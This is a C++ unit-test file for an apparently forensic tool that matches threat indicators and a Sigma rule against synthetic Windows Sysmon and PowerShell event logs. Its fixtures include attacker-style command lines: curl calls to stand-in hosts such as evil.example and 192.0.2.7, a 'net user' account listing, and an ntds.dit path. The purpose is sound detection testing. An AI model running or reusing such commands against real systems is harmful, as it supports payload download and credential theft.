// Indicators in evidence: alone (match_indicators) and beside the rules of a hunt.

#include "engine/indicator_match.h"

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <map>
#include <optional>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include <fmt/format.h>
#include <gtest/gtest.h>

#include "decode/evtx/writer.h"
#include "engine/beside_rules.h"
#include "engine/hunt.h"
#include "sigma/parser.h"
#include "view/log_sources.h"

namespace landwarden::engine {
namespace {

namespace fs = std::filesystem;
namespace write = decode::evtx::write;
using enum intel::IndicatorKind;
using Fields = std::vector<std::pair<std::string, std::string>>;
using Texts = std::vector<std::string>;

intel::Indicator made(intel::IndicatorKind kind, std::string_view value) {
  const auto form = intel::normal_form(kind, value);
  EXPECT_TRUE(form) << value;
  return {{{kind, form.value_or("?")}}, {}, {}};
}

/// A process creation if one of the fields is CommandLine, else a network connection: no rule here is about
/// it.
write::EventRecord event_of(const std::string& host, std::int64_t second, const Fields& fields) {
  const bool process =
      std::ranges::any_of(fields, [](const auto& one) { return one.first == "CommandLine"; });
  write::EventRecord event;
  event.provider.name = "Microsoft-Windows-Sysmon";
  event.event_id = process ? 1 : 3;
  event.version = 5;
  event.time = Time{from_unix(1'772'000'000 + second).ticks};
  event.channel = "Microsoft-Windows-Sysmon/Operational";
  event.computer = host;
  write::EventData data;
  for (const auto& [name, value] : fields) data.fields.emplace_back(name, write::Value::text(value));
  event.data = std::move(data);
  return event;
}

write::EventRecord block_of(const std::string& id, std::uint32_t number, std::uint32_t total,
                            const std::string& text) {
  write::EventRecord event;
  event.provider.name = "Microsoft-Windows-PowerShell";
  event.event_id = 4104;
  event.version = 1;
  event.time = Time{from_unix(1'772'000'000 + number).ticks};
  event.channel = "Microsoft-Windows-PowerShell/Operational";
  event.computer = "ws1";
  write::EventData data;
  data.fields.emplace_back("MessageNumber", write::Value::text(std::to_string(number)));
  data.fields.emplace_back("MessageTotal", write::Value::text(std::to_string(total)));
  data.fields.emplace_back("ScriptBlockText", write::Value::text(text));
  data.fields.emplace_back("ScriptBlockId", write::Value::text(id));
  event.data = std::move(data);
  return event;
}

constexpr std::string_view kRules = R"(
title: Lists accounts
id: 11111111-0000-4000-8000-000000000001
logsource: {product: windows, category: process_creation}
detection:
  tool: {CommandLine|contains: 'net user'}
  condition: tool
level: high
)";

class IndicatorMatchTest : public testing::Test {
 protected:
  void SetUp() override {
    const std::string name = testing::UnitTest::GetInstance()->current_test_info()->name();
    folder_ = fs::path(testing::TempDir()) / ("landwarden_indicators_" + name);
    fs::remove_all(folder_);
    fs::create_directories(folder_);
    std::vector<sigma::Rule> rules;
    std::vector<sigma::Diagnostic> diagnostics;
    sigma::parse_rules(std::string(kRules), "rules.yml", {}, rules, diagnostics);
    ASSERT_TRUE(sources_.has_value());
    rules_.emplace(sigma::RuleSet::compile(std::move(rules), *sources_, catalogue_, diagnostics));
    ASSERT_EQ(rules_->rules().size(), 1U);
  }
  void TearDown() override { fs::remove_all(folder_); }

  void put(const std::string& name, const std::vector<write::EventRecord>& events) {
    decode::evtx::Writer writer;
    for (const write::EventRecord& event : events) ASSERT_TRUE(writer.add(event).has_value());
    const std::vector<std::byte> bytes = writer.finish();
    std::ofstream(folder_ / name, std::ios::binary)
        .write(reinterpret_cast<const char*>(bytes.data()), static_cast<std::streamsize>(bytes.size()));
    paths_.push_back((folder_ / name).string());
  }

  IndicatorResult match(const intel::IndicatorSet& set, const IndicatorOptions& options) {
    Progress progress;
    const std::atomic<bool> stop = false;
    auto result = match_indicators(options, set, catalogue_, progress, stop);
    EXPECT_TRUE(result.has_value());
    return result ? std::move(*result) : IndicatorResult{};
  }
  /// What one event with these fields meets.
  Texts met(std::vector<intel::Indicator> indicators, const Fields& fields) {
    paths_.clear();
    put("one.evtx", {event_of("ws1", 0, fields)});
    const intel::IndicatorSet set(std::move(indicators));
    Texts out;
    for (const Sighting& sighting : match(set, {.evidence = paths_, .threads = 1, .host = {}}).sightings)
      out.push_back(to_text(set.indicators()[sighting.indicator].terms));
    return out;
  }

  struct Line {
    std::string text;
    std::vector<sigma::FieldValues> event;
  };
  std::vector<Line> hunt_lines(const intel::IndicatorSet* set, HuntOptions options) {
    std::map<std::uint32_t, triage::ForeignRule> names;
    Beside beside{.indicators = {}, .all_fields = all_fields_};
    if (set != nullptr) {
      beside.indicators.emplace(
          HuntedIndicators{*set, [&](std::uint32_t indicator) -> const triage::ForeignRule& {
                             triage::ForeignRule& rule = names[indicator];
                             rule.rule.title = to_text(set->indicators().at(indicator).terms);
                             return rule;
                           }});
      options.beside = &beside;
    }
    Progress progress;
    const std::atomic<bool> stop = false;
    std::vector<Line> out;
    auto result =
        hunt(options, *rules_, catalogue_, progress, stop, [&](const MatchView& view) -> Result<void> {
          Line& line = out.emplace_back();
          line.text = fmt::format("{} {} {} {}", view.match.host, view.match.record_id, view.rule.title,
                                  view.match.why);
          for (const sigma::FieldValues& field : view.match.matched)
            line.text += fmt::format(" {}={}", field.field, fmt::join(field.values, "|"));
          if (view.match.parts > 0) line.text += fmt::format(" parts={}", view.match.parts);
          line.event = view.match.event;
          return {};
        });
    EXPECT_TRUE(result.has_value());
    if (result) {
      EXPECT_EQ(result->matches, out.size());
      result_ = std::move(*result);
    }
    return out;
  }
  Texts hunt_texts(const intel::IndicatorSet* set, HuntOptions options) {
    Texts out;
    for (Line& line : hunt_lines(set, std::move(options))) out.push_back(std::move(line.text));
    return out;
  }
  [[nodiscard]] HuntOptions hunting(unsigned threads = 1) const {
    HuntOptions options;
    options.evidence = paths_;
    options.threads = threads;
    return options;
  }

  fs::path folder_;
  Result<view::LogSources> sources_ = view::LogSources::built_in();
  event::Catalogue catalogue_;
  std::optional<sigma::RuleSet> rules_;
  std::vector<std::string> paths_;
  HuntResult result_;
  bool all_fields_ = false;
};

struct Case {
  intel::IndicatorKind kind;
  std::string indicator, field, met, not_met;
};

TEST_F(IndicatorMatchTest, EachKindIsMetInItsFieldByItselfOnly) {
  const std::string md5(32, 'a'), sha1(40, 'b'), sha256(64, 'c'), imphash(32, 'd');
  const Case cases[] = {
      {intel::IndicatorKind::md5, md5, "Hashes", "SHA1=00,MD5=" + std::string(32, 'A'), "IMPHASH=" + md5},
      {intel::IndicatorKind::sha1, sha1, "Hashes", "SHA1=" + sha1, "SHA1=" + std::string(40, 'e')},
      {intel::IndicatorKind::sha256, sha256, "Hashes", "SHA256=" + std::string(64, 'C'), "MD5=" + md5},
      {intel::IndicatorKind::imphash, imphash, "Hashes", "IMPHASH=" + imphash, "MD5=" + imphash},
      {ip, "192.0.2.7", "DestinationIp", "::ffff:192.0.2.7", "192.0.2.70"},
      {ip, "198.51.100.0/24", "DestinationIp", "198.51.100.255", "198.51.101.0"},
      {ip, "2001:db8::1", "DestinationIp", "2001:DB8:0:0:0:0:0:1", "2001:db8::10"},
      {domain, "evil.example", "DestinationHostname", "a.B.EVIL.example.", "notevil.example"},
      {url, "http://evil.example/x", "url", "HTTP://Evil.Example/x#part", "http://evil.example/X"},
      {path, R"(C:\ProgramData\a.exe)", "Image", R"(c:\programdata\A.EXE)", R"(C:\ProgramData\b\a.exe)"},
      {path, R"(C:\Users\Public\pro\)", "TargetFilename", R"(C:\users\public\PRO\ntds.dit)",
       R"(C:\Users\Public\product\x)"},
      {file_name, "cisco_up.exe", "Image", R"(D:\x\Cisco_Up.exe)", R"(D:\cisco_up.exe\x)"},
      {registry, R"(HKLM\SYSTEM\CurrentControlSet\Services\x)", "TargetObject",
       R"(\REGISTRY\MACHINE\System\ControlSet001\Services\X\Start)",
       R"(HKLM\System\CurrentControlSet\Services\xy)"},
      {user_agent, "Bad/1.0", "user_agent", "bad/1.0", "Bad/1.0 (compatible)"},
      {ip, "192.0.2.7", "CommandLine", "ping -n 1 192.0.2.7", "ping -n 1 192.0.2.77"},
      {domain, "evil.example", "CommandLine", "curl https://x.evil.example:8443/a",
       "curl https://evil.example.org/"},
      {file_name, "win.exe", "CommandLine", R"(cmd /c "C:\t\win.exe" -a)", R"(cmd /c C:\t\twin.exe)"},
  };
  for (const Case& one : cases) {
    const intel::Indicator indicator = made(one.kind, one.indicator);
    EXPECT_EQ(met({indicator}, {{one.field, one.met}}), Texts{to_text(indicator.terms)}) << one.met;
    EXPECT_EQ(met({indicator}, {{one.field, one.not_met}}), Texts{}) << one.not_met;
    EXPECT_EQ(met({indicator}, {{"NoFieldOfIndicators", one.met}}), Texts{}) << one.met;
  }
}

TEST_F(IndicatorMatchTest, FieldsAreKnownInTheSpellingsOfSources) {
  for (const char* field : {"DestinationIp", "destinationip", "destinationIp"})
    EXPECT_EQ(met({made(ip, "192.0.2.7")}, {{field, "192.0.2.7"}}).size(), 1U) << field;
}

TEST_F(IndicatorMatchTest, ValuesJoinedByAndHaveToStandOnOneRecord) {
  intel::Indicator both = made(ip, "192.0.2.7");
  both.terms.push_back({file_name, "a.exe"});
  EXPECT_EQ(met({both}, {{"DestinationIp", "192.0.2.7"}, {"Image", R"(C:\a.exe)"}}).size(), 1U);
  EXPECT_EQ(met({both}, {{"DestinationIp", "192.0.2.7"}, {"Image", R"(C:\b.exe)"}}), Texts{});
  paths_.clear();
  put("two.evtx", {event_of("ws1", 0, {{"DestinationIp", "192.0.2.7"}}),
                   event_of("ws1", 1, {{"Image", R"(C:\a.exe)"}, {"CommandLine", "a"}})});
  const intel::IndicatorSet set({both});
  EXPECT_TRUE(match(set, {.evidence = paths_, .host = {}}).sightings.empty());
  EXPECT_TRUE(hunt_texts(&set, hunting()).empty());
}

/// Evidence of several files, hosts and shapes, with repetition.
intel::IndicatorSet some_indicators() {
  intel::Indicator both = made(ip, "192.0.2.3");
  both.terms.push_back({file_name, "a3.exe"});
  return intel::IndicatorSet({made(ip, "192.0.2.7"), made(ip, "192.0.2.0/30"), made(file_name, "a5.exe"),
                              made(domain, "evil.example"), both});
}

TEST_F(IndicatorMatchTest, ThreadsAndTheOrderOfFilesChangeNothing) {
  for (int file = 0; file < 5; ++file) {
    std::vector<write::EventRecord> events;
    for (int i = 0; i < 900; ++i) {
      const std::string host = fmt::format("ws{}", (i + file) % 4);
      Fields fields = {{"Image", fmt::format(R"(C:\a{}.exe)", i % 11)},
                       {"DestinationIp", fmt::format("192.0.2.{}", i % 13)},
                       {"DestinationHostname", i % 50 == 0 ? "x.evil.example" : "fine.example"}};
      if (i % 3 == 0) fields.emplace_back("CommandLine", i % 9 == 0 ? "net user" : "whoami");
      events.push_back(event_of(host, i / 20, fields));
    }
    put(fmt::format("{}.evtx", file), events);
  }
  const intel::IndicatorSet set = some_indicators();
  const auto sightings = [&](unsigned threads) {
    Texts out;
    const IndicatorResult result = match(set, {.evidence = paths_, .threads = threads, .host = {}});
    for (const Sighting& one : result.sightings)
      out.push_back(fmt::format("{} {} {} {} {}#{}", one.indicator, one.host, one.records,
                                to_rfc3339(one.first), one.source, one.record_id));
    out.push_back(std::to_string(result.matches));
    return out;
  };
  const Texts alone = sightings(1);
  const Texts hunted = hunt_texts(&set, hunting(1));
  EXPECT_GT(alone.size(), 16U);
  EXPECT_EQ(sightings(4), alone);
  EXPECT_EQ(hunt_texts(&set, hunting(4)), hunted);
  std::ranges::reverse(paths_);
  EXPECT_EQ(sightings(3), alone);
  EXPECT_EQ(hunt_texts(&set, hunting(3)), hunted);
  // Both commands find the same, and the rules what they find by themselves.
  const Texts rules_alone = hunt_texts(nullptr, hunting(2));
  EXPECT_EQ(hunted.size(), std::stoul(alone.back()) + rules_alone.size());
  Texts rules_only;
  std::ranges::copy_if(hunted, std::back_inserter(rules_only),
                       [](const std::string& line) { return line.find("Lists accounts") != line.npos; });
  EXPECT_EQ(rules_only, rules_alone);
  HuntOptions spilling = hunting(2);
  spilling.spill_bytes = 1;
  EXPECT_EQ(hunt_texts(&set, spilling), hunted);
}

TEST_F(IndicatorMatchTest, AHuntTellsThemInOrderAmongTheMatchesOfRules) {
  put("a.evtx", {event_of("ws1", 3, {{"DestinationIp", "192.0.2.7"}}),
                 event_of("ws1", 2, {{"Image", R"(C:\a5.exe)"}, {"CommandLine", "net user 192.0.2.7"}}),
                 event_of("ws2", 1, {{"CommandLine", "net user"}})});
  const intel::IndicatorSet set = some_indicators();
  EXPECT_EQ(hunt_texts(&set, hunting()),
            (Texts{"ws2 3 Lists accounts CommandLine|contains: net user CommandLine=net user",
                   "ws1 2 Lists accounts CommandLine|contains: net user CommandLine=net user 192.0.2.7",
                   "ws1 2 ip 192.0.2.7 ip 192.0.2.7 CommandLine=net user 192.0.2.7",
                   R"(ws1 2 file-name a5.exe file-name a5.exe Image=C:\a5.exe)",
                   "ws1 1 ip 192.0.2.7 ip 192.0.2.7 DestinationIp=192.0.2.7"}));
  EXPECT_EQ(result_.records_matched, 3U);
  HuntOptions of_host = hunting();
  of_host.host = "ws2";
  EXPECT_EQ(hunt_texts(&set, of_host).size(), 1U);
}

TEST_F(IndicatorMatchTest, TheWholeRecordIsThereForThoseWhoAskedForIt) {
  put("a.evtx", {event_of("ws1", 0, {{"DestinationIp", "192.0.2.7"}, {"SomethingElse", "x"}})});
  const intel::IndicatorSet set = some_indicators();
  all_fields_ = true;
  const auto lines = hunt_lines(&set, hunting());
  ASSERT_EQ(lines.size(), 1U);
  EXPECT_EQ(lines.front().event.back().field, "SomethingElse");
  EXPECT_EQ(lines.front().event.back().values, Texts{"x"});
}

TEST_F(IndicatorMatchTest, AScriptInSeveralRecordsIsLookedAtAsOne) {
  put("ps.evtx", {block_of("A", 1, 2, "curl http://x.evil.exa"), block_of("A", 2, 2, "mple/a"),
                  block_of("B", 1, 2, "curl http://evil.example/a"), block_of("B", 2, 2, "; exit")});
  const intel::IndicatorSet set = some_indicators();
  HuntOptions options = hunting();
  options.cut_texts = sources_->cut_texts();
  const Texts found = hunt_texts(&set, options);
  ASSERT_EQ(found.size(), 2U) << "one across the cut, one in a part, which is not told again";
  EXPECT_TRUE(std::ranges::any_of(found, [](const std::string& line) {
    return line.starts_with("ws1 1 domain evil.example") && line.ends_with(" parts=2");
  }));
  EXPECT_TRUE(std::ranges::any_of(found, [](const std::string& line) {
    return line.starts_with("ws1 3 domain evil.example") && line.find("parts") == line.npos;
  }));
}

/// Alone as in a hunt, also far behind the start of a long script.
TEST_F(IndicatorMatchTest, AloneAScriptInSeveralRecordsIsLookedAtAsOneToo) {
  std::vector<write::EventRecord> blocks = {block_of("B", 1, 2, "curl http://192.0.2.7/a"),
                                            block_of("B", 2, 2, "; exit"), block_of("C", 2, 2, "192.0.2.7")};
  for (std::uint32_t part = 1; part <= 8; ++part) {
    blocks.push_back(block_of("A", part, 8,
                              part == 7   ? std::string(20'000, '#') + " x.evil.exa"
                              : part == 8 ? "mple/a 192.0.2.3 a3.exe"
                                          : std::string(20'000, '#')));
  }
  put("ps.evtx", blocks);
  const intel::IndicatorSet set = some_indicators();
  const auto sightings = [&](const std::string& host, unsigned threads) {
    const IndicatorResult result = match(
        set, {.evidence = paths_, .threads = threads, .host = host, .cut_texts = sources_->cut_texts()});
    Texts out;
    for (const Sighting& one : result.sightings)
      out.push_back(fmt::format("{} {} #{} parts={}", to_text(set.indicators()[one.indicator].terms),
                                one.records, one.record_id, one.parts));
    out.push_back(fmt::format("{} matches, {} of {} whole texts, {} not whole", result.matches,
                              result.assembled.matches, result.assembled.texts, result.assembled.incomplete));
    return out;
  };
  const Texts expected = {
      "ip 192.0.2.7 2 #1 parts=0", "ip 192.0.2.0/30 1 #11 parts=0", "domain evil.example 1 #4 parts=8",
      "ip 192.0.2.3 AND file-name a3.exe 1 #11 parts=0", "5 matches, 1 of 2 whole texts, 1 not whole"};
  EXPECT_EQ(sightings("", 1), expected);
  EXPECT_EQ(sightings("", 3), expected);
  EXPECT_EQ(sightings("other", 1), Texts{"0 matches, 0 of 2 whole texts, 1 not whole"});
}

TEST_F(IndicatorMatchTest, SightingsKeepTheFirstOfTheirRecords) {
  put("b.evtx", {event_of("ws1", 9, {{"DestinationIp", "192.0.2.7"}})});
  put("a.evtx", {event_of("ws1", 5, {{"DestinationIp", "192.0.2.7"}}),
                 event_of("ws1", 4, {{"DestinationIp", "192.0.2.7"}}),
                 event_of("ws2", 1, {{"DestinationIp", "192.0.2.7"}})});
  const intel::IndicatorSet set({made(ip, "192.0.2.7")});
  const IndicatorResult result = match(set, {.evidence = paths_, .threads = 2, .host = "ws1"});
  ASSERT_EQ(result.sightings.size(), 1U);
  const Sighting& one = result.sightings.front();
  EXPECT_EQ(one.records, 3U);
  EXPECT_EQ(one.record_id, 2U);
  EXPECT_TRUE(one.source.ends_with("a.evtx"));
  EXPECT_EQ(to_rfc3339(one.last).substr(11, 8), "06:13:29");
}

}  // namespace
}  // namespace landwarden::engine
